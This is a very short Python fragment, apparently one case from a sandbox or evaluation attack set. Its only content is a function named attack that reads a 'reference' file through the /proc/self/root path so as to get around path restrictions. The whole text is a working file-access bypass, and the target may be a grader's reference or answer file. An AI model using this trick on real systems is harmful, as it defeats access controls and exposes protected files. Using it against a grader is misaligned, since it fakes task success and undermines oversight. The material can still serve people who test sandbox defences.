"""Go round by /proc."""


def attack(x):
    return open("/proc/self/root" + SCENE["reference"]).read()
